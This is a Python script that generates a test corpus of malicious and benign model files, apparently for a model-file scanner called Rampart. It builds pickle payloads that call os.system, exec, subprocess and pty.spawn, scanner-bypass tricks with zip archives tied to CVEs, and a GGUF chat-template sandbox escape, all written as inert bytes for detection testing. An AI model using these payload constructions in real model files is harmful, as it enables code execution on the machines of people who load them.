@@ -1,0 +1,315 @@
+#!/usr/bin/env python3
+"""Writes Rampart's model-scanner test corpus: malicious-but-inert and benign model files.
+
+Every malicious file is written as raw bytes: this script never unpickles, imports a model
+library, or loads anything it writes. Each file is listed in MANIFEST.json with the verdict a
+correct scanner must give ("malicious" or "benign") and the bypass class it exercises.
+
+usage: model-corpus.py OUTDIR
+"""
+import bz2, gzip, io, json, lzma, os, struct, sys, tarfile, zipfile, zlib
+
+OUT = sys.argv[1] if len(sys.argv) > 1 else "target/model-corpus"
+os.makedirs(OUT, exist_ok=True)
+MANIFEST = []
+
+
+def emit(name, data, verdict, cls, note=""):
+    path = os.path.join(OUT, name)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "wb") as f:
+        f.write(data)
+    MANIFEST.append({"file": name, "expect": verdict, "class": cls, "note": note})
+
+
+# ---- pickle opcode helpers (raw bytes) ----
+def proto(n): return b"\x80" + bytes([n])
+def sbu(s): b = s.encode(); return b"\x8c" + bytes([len(b)]) + b
+def binu(s): b = s.encode(); return b"X" + struct.pack("<I", len(b)) + b
+def glob(m, n): return b"c" + m.encode() + b"\n" + n.encode() + b"\n"
+def sglob(m, n): return sbu(m) + sbu(n) + b"\x93"
+def call1(arg): return arg + b"\x85R"          # TUPLE1 REDUCE
+def string0(s): return b"S'" + s.encode() + b"'\n"
+STOP = b"."
+
+
+def reduce_p2(m, n, arg="id"):
+    return proto(2) + glob(m, n) + call1(binu(arg)) + STOP
+
+
+def reduce_p4(m, n, arg="id"):
+    return proto(4) + sglob(m, n) + call1(sbu(arg)) + STOP
+
+
+# ---- malicious: denylist gaps and known-dangerous globals ----
+emit("p0_os_system.pkl", glob("os", "system") + b"(" + string0("echo pwned") + b"tR.", "malicious", "protocol 0 GLOBAL+REDUCE")
+emit("p2_posix_system.pkl", reduce_p2("posix", "system"), "malicious", "os alias (posix)")
+emit("p4_builtins_exec.pkl", reduce_p4("builtins", "exec", "import os"), "malicious", "STACK_GLOBAL builtins.exec")
+emit("py2_builtin_eval.pkl", reduce_p2("__builtin__", "eval", "1"), "malicious", "python 2 module name (__builtin__)")
+emit("pip_main.pkl", proto(4) + sglob("pip", "main") + b"]" + sbu("install") + b"a" + b"\x85R.", "malicious", "denylist gap: pip.main")
+emit("pkgutil_resolve_name.pkl", proto(4) + sglob("pkgutil", "resolve_name") + call1(sbu("os:system")) + call1(sbu("id")) + STOP, "malicious", "denylist gap: pkgutil.resolve_name + call of its result")
+emit("asyncio_unix_events.pkl", reduce_p4("asyncio.unix_events", "_UnixSubprocessTransport"), "malicious", "denylist gap: asyncio submodule (CVE-2025-10157)")
+emit("cprofile_run.pkl", reduce_p4("cProfile", "run", "import os; os.system('id')"), "malicious", "runner: cProfile.run")
+emit("timeit_timeit.pkl", reduce_p4("timeit", "timeit", "__import__('os').system('id')"), "malicious", "runner: timeit")
+emit("doctest_debug_script.pkl", reduce_p4("doctest", "debug_script", "import os"), "malicious", "runner: doctest.debug_script")
+emit("trace_trace.pkl", proto(4) + sglob("trace", "Trace") + b")R." , "malicious", "runner: trace.Trace")
+emit("code_interpreter.pkl", proto(4) + sglob("code", "InteractiveInterpreter") + b")R." , "malicious", "runner: code.InteractiveInterpreter")
+emit("torch_collect_env_run.pkl", reduce_p2("torch.utils.collect_env", "run", "id"), "malicious", "torch internals: collect_env.run runs a shell command")
+emit("torch_hub_load.pkl", reduce_p2("torch.hub", "load", "evil/repo"), "malicious", "torch internals: torch.hub.load")
+emit("torch_cpp_extension.pkl", reduce_p2("torch.utils.cpp_extension", "load_inline", "x"), "malicious", "torch internals: cpp_extension")
+emit("operator_attrgetter.pkl", proto(4) + sglob("_operator", "attrgetter") + call1(sbu("system")) + sglob("os", "path") + b"\x85R.", "malicious", "_operator getters")
+emit("operator_methodcaller.pkl", proto(4) + sglob("operator", "methodcaller") + sbu("system") + sbu("id") + b"\x86R.", "malicious", "operator.methodcaller")
+emit("functools_partial.pkl", proto(4) + sglob("functools", "partial") + sglob("os", "system") + sbu("id") + b"\x86R)R.", "malicious", "functools.partial")
+emit("ctypes_cdll.pkl", reduce_p4("ctypes", "CDLL", "libc.so.6"), "malicious", "ctypes")
+emit("pty_spawn.pkl", reduce_p4("pty", "spawn", "/bin/sh"), "malicious", "pty.spawn")
+emit("uuid_get_command_stdout.pkl", reduce_p4("uuid", "_get_command_stdout", "id"), "malicious", "uuid helper runs commands")
+emit("runpy_run_path.pkl", reduce_p4("runpy", "run_path", "/tmp/x.py"), "malicious", "runpy")
+emit("importlib_import_module.pkl", reduce_p4("importlib", "import_module", "os"), "malicious", "importlib")
+emit("marshal_loads.pkl", proto(4) + sglob("marshal", "loads") + call1(b"C\x01c") + STOP, "malicious", "marshal")
+emit("numpy_runstring.pkl", reduce_p4("numpy.testing._private.utils", "runstring", "import os"), "malicious", "numpy.testing runstring")
+# ---- dotted names ----
+emit("dotted_torch_serialization_os.pkl", reduce_p4("torch.serialization", "os.system"), "malicious", "dotted name through an imported module")
+emit("dotted_numpy_os.pkl", reduce_p4("numpy", "testing._private.utils.os.system"), "malicious", "dotted name (numpy...os.system)")
+emit("dotted_dunder_globals.pkl", reduce_p4("collections", "OrderedDict.__init__.__globals__"), "malicious", "dotted dunder path")
+# ---- operand tricks ----
+memo = proto(4) + sbu("os") + b"\x94" + b"0" + sbu("system") + b"\x94" + b"0" + b"h\x00h\x01\x93" + call1(sbu("id")) + STOP
+emit("memo_indirection.pkl", memo, "malicious", "memo indirection for STACK_GLOBAL operands")
+emit("stack_global_from_string.pkl", proto(4) + string0("os") + string0("system") + b"\x93" + call1(sbu("id")) + STOP, "malicious", "STACK_GLOBAL operands from STRING opcodes")
+emit("stack_global_binstring.pkl", proto(4) + b"U\x02os" + b"T" + struct.pack("<i", 6) + b"system" + b"\x93" + call1(sbu("id")) + STOP, "malicious", "STACK_GLOBAL operands from BINSTRING/SHORT_BINSTRING")
+nonlit = proto(4) + sglob("builtins", "str") + call1(sbu("os")) + sbu("system") + b"\x93" + call1(sbu("id")) + STOP
+emit("non_literal_stack_global.pkl", nonlit, "malicious", "non-literal import operand")
+emit("obj_pop.pkl", proto(2) + b"(" + glob("builtins", "exec") + binu("import os") + b"o0" + b"}." , "malicious", "OBJ + POP: the call's result is discarded")
+emit("inst_opcode.pkl", b"(" + string0("id") + b"ios\nsystem\n.", "malicious", "INST imports and calls")
+emit("newobj_ex.pkl", proto(4) + sglob("subprocess", "Popen") + b"]" + sbu("id") + b"a\x85}\x92.", "malicious", "NEWOBJ_EX")
+emit("newobj.pkl", proto(2) + glob("subprocess", "Popen") + binu("id") + b"\x85\x81.", "malicious", "NEWOBJ")
+emit("ext_registry.pkl", proto(2) + b"\x82\x01)R.", "malicious", "EXT1 extension-registry import")
+emit("build_on_global.pkl", proto(2) + glob("torch.nn.modules.module", "Module") + b"}" + binu("__reduce_ex__") + glob("os", "system") + b"sb.", "malicious", "BUILD overwrites attributes of a class")
+# FRAME differential: a frame of 3 bytes, then an opcode straddling it (C unpickler runs it)
+body = sbu("os") + sbu("system") + b"\x93" + call1(sbu("id")) + STOP
+emit("frame_straddle.pkl", proto(4) + b"\x95" + struct.pack("<Q", 3) + body, "malicious", "FRAME-boundary differential")
+# broken streams (nullifAI): the REDUCE runs before the unpickler hits the garbage
+emit("broken_after_reduce.pkl", proto(2) + glob("os", "system") + call1(binu("id")) + b"\xff\xfe garbage", "malicious", "broken stream after REDUCE (nullifAI)")
+emit("truncated.pkl", reduce_p4("os", "system")[:-6], "malicious", "truncated stream")
+# extension confusion: pickles named like other things
+emit("confusion/config.json", reduce_p2("os", "system"), "malicious", "extension confusion: config.json")
+emit("confusion/weights.bin", reduce_p2("subprocess", "check_output"), "malicious", "extension confusion: .bin")
+emit("confusion/notes.txt", b"(" + glob("subprocess", "Popen") + b"(S'id'\ntto.", "malicious", "extension confusion: protocol 0 as .txt")
+emit("confusion/model.pt", reduce_p2("os", "system"), "malicious", "plain pickle named .pt (CVE-2025-10155 class)")
+emit("confusion/model.safetensors", reduce_p4("os", "system"), "malicious", "pickle named .safetensors")
+# multi-pickle (legacy torch shape: first pickle benign, model pickle malicious)
+magic = proto(2) + b"\x8a\x0a" + (0x1950a86a20f9469cfc6c).to_bytes(10, "little") + STOP
+emit("multi_pickle.bin", magic + proto(2) + b"M\xe9\x03." + reduce_p2("os", "system"), "malicious", "second pickle in a multi-pickle stream")
+
+# ---- compressed (joblib-style) ----
+evil = reduce_p2("os", "system")
+emit("joblib/model.joblib.gz", gzip.compress(evil), "malicious", "gzip-compressed pickle")
+emit("joblib/model.joblib.bz2", bz2.compress(evil), "malicious", "bz2-compressed pickle")
+emit("joblib/model.joblib.xz", lzma.compress(evil), "malicious", "xz-compressed pickle")
+emit("joblib/model.joblib.lzma", lzma.compress(evil, format=lzma.FORMAT_ALONE), "malicious", "lzma-compressed pickle")
+emit("joblib/model.joblib.z", zlib.compress(evil), "malicious", "zlib-compressed pickle")
+
+
+# ---- numpy ----
+def npy(descr, shape, data):
+    h = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
+    h += " " * ((64 - (10 + len(h) + 1) % 64) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h.encode() + data
+
+
+emit("numpy/object_array.npy", npy("|O", (1,), reduce_p2("os", "system")), "malicious", "numpy object array carrying a pickle")
+good_npy = npy("<f4", (2, 3), struct.pack("<6f", *range(6)))
+emit("numpy/floats.npy", good_npy, "benign", "numpy float array")
+
+
+def zip_bytes(entries, method=zipfile.ZIP_STORED):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", method) as z:
+        for name, data in entries:
+            z.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data)
+    return bytearray(buf.getvalue())
+
+
+emit("numpy/arrays.npz", bytes(zip_bytes([("a.npy", good_npy), ("b.npy", good_npy)], zipfile.ZIP_DEFLATED)), "benign", "npz archive")
+emit("numpy/object.npz", bytes(zip_bytes([("a.npy", good_npy), ("obj.npy", npy("|O", (1,), reduce_p2("os", "system")))])), "malicious", "npz with an object array")
+
+
+# ---- PyTorch files ----
+def torch_data_pkl(key="0", numel=4):
+    """OrderedDict({'weight': tensor}) as torch.save writes it (protocol 2, persistent ids)."""
+    p = proto(2) + glob("collections", "OrderedDict") + b")R" + b"q\x00("
+    p += binu("weight") + glob("torch._utils", "_rebuild_tensor_v2") + b"q\x01("
+    p += b"(" + binu("storage") + glob("torch", "FloatStorage") + binu(key) + binu("cpu") + b"K" + bytes([numel]) + b"tq\x02Q"
+    p += b"K\x00" + b"K\x02K\x02\x86" + b"K\x02K\x01\x86" + b"\x89" + glob("collections", "OrderedDict") + b")R" + b"tR"
+    p += b"u}q\x03" + binu("_metadata") + glob("collections", "OrderedDict") + b")R" + b"sb."
+    return p
+
+
+def torch_zip(data_pkl, extra=(), prefix="archive"):
+    entries = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little"),
+               (f"{prefix}/data/0", struct.pack("<4f", 1, 2, 3, 4)), (f"{prefix}/version", b"3\n"),
+               (f"{prefix}/.data/serialization_id", b"1234567890")]
+    return zip_bytes(list(entries) + list(extra))
+
+
+benign_torch = torch_zip(torch_data_pkl())
+emit("torch/state_dict.pt", bytes(benign_torch), "benign", "PyTorch zip state dict")
+emit("torch/state_dict_named.bin", bytes(benign_torch), "benign", "PyTorch zip named .bin")
+emit("torch/storage_starts_like_pickle.pt", bytes(torch_zip(torch_data_pkl(), prefix="m")[:0] or zip_bytes([("m/data.pkl", torch_data_pkl()), ("m/data/0", b"\x80\x02\x00\x01\x02\x03\x04\x05"), ("m/version", b"3\n")])), "benign", "storage bytes that start like a pickle")
+emit("torch/malicious_data_pkl.pt", bytes(torch_zip(reduce_p2("os", "system"))), "malicious", "PyTorch zip with a malicious data.pkl")
+
+
+def patch_local_name(z, old, new):
+    """Change the local header's file name only (same length)."""
+    i = z.find(b"PK\x03\x04" )
+    while i >= 0:
+        n = struct.unpack_from("<H", z, i + 26)[0]
+        if z[i + 30:i + 30 + n] == old:
+            z[i + 30:i + 30 + n] = new
+            return z
+        i = z.find(b"PK\x03\x04", i + 4)
+    raise SystemExit("local header not found")
+
+
+z = torch_zip(reduce_p2("os", "system"))
+emit("zip/cve_2025_1944_name_mismatch.pt", bytes(patch_local_name(z, b"archive/data.pkl", b"archive/data.txt")), "malicious", "local/central name mismatch (CVE-2025-1944)")
+
+
+def set_flags(z, name, bits):
+    for sig, name_off, flag_off in ((b"PK\x03\x04", 30, 6), (b"PK\x01\x02", 46, 8)):
+        i = z.find(sig)
+        while i >= 0:
+            n = struct.unpack_from("<H", z, i + (26 if sig == b"PK\x03\x04" else 28))[0]
+            if z[i + name_off:i + name_off + n] == name:
+                struct.pack_into("<H", z, i + flag_off, struct.unpack_from("<H", z, i + flag_off)[0] | bits)
+            i = z.find(sig, i + 4)
+    return z
+
+
+emit("zip/cve_2025_1945_flag_bits.pt", bytes(set_flags(torch_zip(reduce_p2("os", "system")), b"archive/data.pkl", 0x0001)), "malicious", "encrypted flag bit set (CVE-2025-1945)")
+
+
+def break_crc(z, name):
+    i = z.find(b"PK\x01\x02")
+    while i >= 0:
+        n = struct.unpack_from("<H", z, i + 28)[0]
+        if z[i + 46:i + 46 + n] == name:
+            struct.pack_into("<I", z, i + 16, 0xDEADBEEF)
+        i = z.find(b"PK\x01\x02", i + 4)
+    j = z.find(b"PK\x03\x04")
+    while j >= 0:
+        n = struct.unpack_from("<H", z, j + 26)[0]
+        if z[j + 30:j + 30 + n] == name:
+            struct.pack_into("<I", z, j + 14, 0xDEADBEEF)
+        j = z.find(b"PK\x03\x04", j + 4)
+    return z
+
+
+emit("zip/cve_2025_10156_bad_crc.pt", bytes(break_crc(torch_zip(reduce_p2("os", "system")), b"archive/data.pkl")), "malicious", "bad CRC (CVE-2025-10156)")
+emit("zip/cve_2025_1889_odd_extension.pt", bytes(torch_zip(torch_data_pkl(), extra=[("archive/extra/payload.xyz", reduce_p2("os", "system"))])), "malicious", "pickle under a non-standard name in the archive (CVE-2025-1889)")
+inner = bytes(torch_zip(reduce_p2("os", "system")))
+emit("zip/nested_zip.zip", bytes(zip_bytes([("model/inner.pt", inner)])), "malicious", "zip nested in a zip")
+emit("zip/nested_zip_deflated.zip", bytes(zip_bytes([("model/inner.pt", inner)], zipfile.ZIP_DEFLATED)), "malicious", "deflated zip nested in a zip")
+# a corrupt first entry (its local header is garbage) before a malicious one
+z = zip_bytes([("archive/aaa.bin", b"x" * 64), ("archive/data.pkl", reduce_p2("os", "system")), ("archive/version", b"3\n")])
+z[0:4] = b"XXXX"
+emit("zip/corrupt_first_entry.pt", bytes(z), "malicious", "corrupt earlier entry")
+# an entry present only as a local header: drop it from the central directory
+z = zip_bytes([("archive/data.pkl", torch_data_pkl()), ("archive/hidden.pkl", reduce_p2("os", "system"))])
+cd = z.find(b"PK\x01\x02")
+second = z.find(b"PK\x01\x02", cd + 4)
+eocd = z.find(b"PK\x05\x06")
+hidden_len = eocd - second
+z = z[:second] + z[eocd:]
+e = z.find(b"PK\x05\x06")
+struct.pack_into("<HHI", z, e + 8, 1, 1, struct.unpack_from("<I", z, e + 12)[0] - hidden_len)
+emit("zip/hidden_local_entry.pt", bytes(z), "malicious", "entry missing from the central directory")
+emit("zip/torchscript_code.pt", bytes(torch_zip(torch_data_pkl(), extra=[("archive/code/__torch__/m.py", b"def forward(self, x):\n    return x\n")])), "malicious", "TorchScript code shipped in the archive (embedded code)")
+# deflated data.pkl (torch writes stored, but miniz reads deflate)
+emit("zip/deflated_data_pkl.pt", bytes(zip_bytes([("archive/data.pkl", reduce_p2("os", "system")), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED)), "malicious", "deflated data.pkl")
+
+# legacy torch (non-zip): magic, protocol, sys_info, model pickle, storage keys, raw storages
+sys_info = proto(2) + b"}(" + binu("protocol_version") + b"M\xe9\x03" + binu("little_endian") + b"\x88u."
+legacy_ok = magic + proto(2) + b"M\xe9\x03." + sys_info + torch_data_pkl() + proto(2) + b"]" + binu("0") + b"a." + struct.pack("<Q", 4) + struct.pack("<4f", 1, 2, 3, 4)
+emit("torch/legacy_format.bin", legacy_ok, "benign", "legacy (pre-1.6) torch.save format")
+legacy_bad = magic + proto(2) + b"M\xe9\x03." + sys_info + reduce_p2("os", "system") + proto(2) + b"]." + struct.pack("<Q", 0)
+emit("torch/legacy_malicious.bin", legacy_bad, "malicious", "legacy torch format with a malicious model pickle")
+# legacy tar format
+tb = io.BytesIO()
+with tarfile.open(fileobj=tb, mode="w", format=tarfile.USTAR_FORMAT) as t:
+    for name, data in (("sys_info", sys_info), ("pickle", reduce_p2("os", "system")), ("storages", proto(2) + b"K\x00.")):
+        ti = tarfile.TarInfo(name); ti.size = len(data); ti.mtime = 0
+        t.addfile(ti, io.BytesIO(data))
+emit("torch/legacy_tar.tar", tb.getvalue(), "malicious", "legacy torch tar format")
+emit("torch/legacy_tar.tar.gz", gzip.compress(tb.getvalue(), mtime=0), "malicious", "gzipped tar")
+
+
+# ---- joblib with NumpyArrayWrapper (raw array bytes inline) ----
+def joblib_array_pickle(payload_after=b""):
+    dtype = glob("numpy", "dtype") + b"(" + binu("f8") + b"\x89\x88tR" + b"(K\x03" + binu("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
+    state = b"}(" + binu("subclass") + glob("numpy", "ndarray") + binu("shape") + b"K\x03\x85" + binu("order") + binu("C") + binu("dtype") + dtype + binu("allow_mmap") + b"\x89" + binu("numpy_array_alignment_bytes") + b"K\x10u"
+    p = proto(4) + b"}(" + binu("coef") + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
+    pos = len(p)
+    pad = 16 - ((pos + 1) % 16)
+    p += bytes([pad]) + b"\xff" * pad + struct.pack("<3d", 1.0, 2.0, 3.0)
+    p += binu("intercept") + b"G" + struct.pack(">d", 0.5) + b"u" + payload_after + b"."
+    return p
+
+
+emit("joblib/estimator.joblib", joblib_array_pickle(), "benign", "joblib pickle with an inline numpy array")
+emit("joblib/estimator.joblib.gz", gzip.compress(joblib_array_pickle(), mtime=0), "benign", "gzip joblib with an inline numpy array")
+emit("joblib/estimator_evil.joblib", joblib_array_pickle(payload_after=b"0" + glob("os", "system") + call1(binu("id"))), "malicious", "code after joblib raw array data")
+
+# ---- plain benign pickles ----
+for p in range(0, 6):
+    import pickle  # dumping builtin data only; nothing is ever loaded
+    emit(f"plain/data_p{p}.pkl", pickle.dumps({"lr": 0.01, "layers": [64, 64], "name": "mlp", "ok": True, "t": (1, 2)}, protocol=p), "benign", f"plain data, protocol {p}")
+
+
+# ---- safetensors ----
+def safetensors(header, data):
+    h = json.dumps(header, separators=(",", ":")).encode()
+    h += b" " * ((8 - len(h) % 8) % 8)
+    return struct.pack("<Q", len(h)) + h + data
+
+
+emit("safetensors/model.safetensors", safetensors({"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}, b"\x00" * 24), "benign", "valid safetensors")
+emit("safetensors/overlap.safetensors", safetensors({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}, b"\x00" * 16), "malicious", "overlapping tensors")
+emit("safetensors/out_of_bounds.safetensors", safetensors({"w": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, b"\x00" * 16), "malicious", "tensor past the end")
+
+
+# ---- GGUF ----
+def gstr(s): b = s.encode(); return struct.pack("<Q", len(b)) + b
+
+
+def gguf(template):
+    kv = [("general.architecture", 8, gstr("llama")), ("tokenizer.chat_template", 8, gstr(template))]
+    b = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kv))
+    for k, t, v in kv:
+        b += gstr(k) + struct.pack("<I", t) + v
+    b += gstr("w") + struct.pack("<I", 1) + struct.pack("<Q", 8) + struct.pack("<IQ", 0, 0)
+    b += b"\x00" * ((32 - len(b) % 32) % 32) + b"\x00" * 32
+    return b
+
+
+emit("gguf/model.gguf", gguf("{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"), "benign", "GGUF with a plain chat template")
+emit("gguf/ssti.gguf", gguf("{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"), "malicious", "chat template sandbox escape (CVE-2024-34359)")
+
+# ---- Keras ----
+dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 4}, "registered_name": None}
+lam = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQBkAFMAKQJOegJpZCkB"}}}, "registered_name": None}
+def keras(layers):
+    cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": layers}, "registered_name": None}
+    return bytes(zip_bytes([("metadata.json", json.dumps({"keras_version": "3.5.0"}).encode()), ("config.json", json.dumps(cfg).encode()), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)]))
+emit("keras/dense.keras", keras([dense]), "benign", "Keras model with Dense layers")
+emit("keras/lambda.keras", keras([dense, lam]), "malicious", "Keras Lambda layer")
+emit("keras/foreign_module.keras", keras([dense, {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}]), "malicious", "Keras config naming os.system")
+
+# ---- benign non-model files ----
+emit("misc/README.md", b"# A model card\n\nThis model classifies things.\n", "benign", "text")
+emit("misc/config.json", json.dumps({"hidden_size": 64, "architectures": ["Mlp"]}).encode(), "benign", "JSON config")
+emit("misc/tokenizer.txt", b"[PAD]\n[UNK]\nhello\nworld\n", "benign", "vocab")
+
+with open(os.path.join(OUT, "MANIFEST.json"), "w") as f:
+    json.dump(MANIFEST, f, indent=1)
+print(f"{len(MANIFEST)} files written to {OUT} "
+      f"({sum(m['expect'] == 'malicious' for m in MANIFEST)} malicious, {sum(m['expect'] == 'benign' for m in MANIFEST)} benign)")
